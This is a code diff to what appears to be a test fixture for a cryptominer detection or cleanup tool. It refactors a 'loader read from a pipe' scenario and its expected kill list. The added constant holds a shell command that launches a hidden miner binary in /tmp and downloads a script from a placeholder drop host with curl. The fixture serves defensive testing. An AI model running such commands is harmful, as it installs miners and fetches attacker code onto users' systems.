@@ -15,6 +15,9 @@ const miner = (
 });
 
 /** Odd places and forms: what reports name beside the usual crontab. */
+/** What the shell of the piped loader was given. */
+const piped = `printf "%s\\n" "/tmp/.pipe/zigw ${minerWords} &" "curl -fsSL http://${dropHost}/next.sh -o /tmp/.pipe/n" | sh`;
+
 export const places: readonly Scenario[] = [
   {
     name: 'a line in /etc/crontab',
@@ -91,10 +94,15 @@ run /var/tmp/.h/httpd`,
     name: 'a loader that is read from a pipe',
     report: '`curl … | sh` leaves a shell without a file: its words are in no script.',
     images: ['/tmp/.pipe/zigw'],
-    start: `(exec setsid sh -c 'printf "%s\\n" "/tmp/.pipe/zigw ${minerWords} &" "curl -fsSL http://${dropHost}/next.sh -o /tmp/.pipe/n" | sh' >/dev/null 2>&1 </dev/null) &`,
+    start: `(exec setsid sh -c '${piped}' >/dev/null 2>&1 </dev/null) &`,
     runs: ['/tmp/.pipe/zigw', 'next.sh'],
     truth: miner('/tmp/.pipe/zigw', [], {
-      ticked: { kill: ['sh', '/tmp/.pipe/zigw'], delete: ['/tmp/.pipe/zigw'], cron: [] },
+      // The shell around it covers the one that reads the pipe, and its download.
+      ticked: {
+        kill: [`sh -c ${piped.replaceAll('\\', '\\\\')}`, '/tmp/.pipe/zigw'],
+        delete: ['/tmp/.pipe/zigw'],
+        cron: [],
+      },
     }),
   },
   {
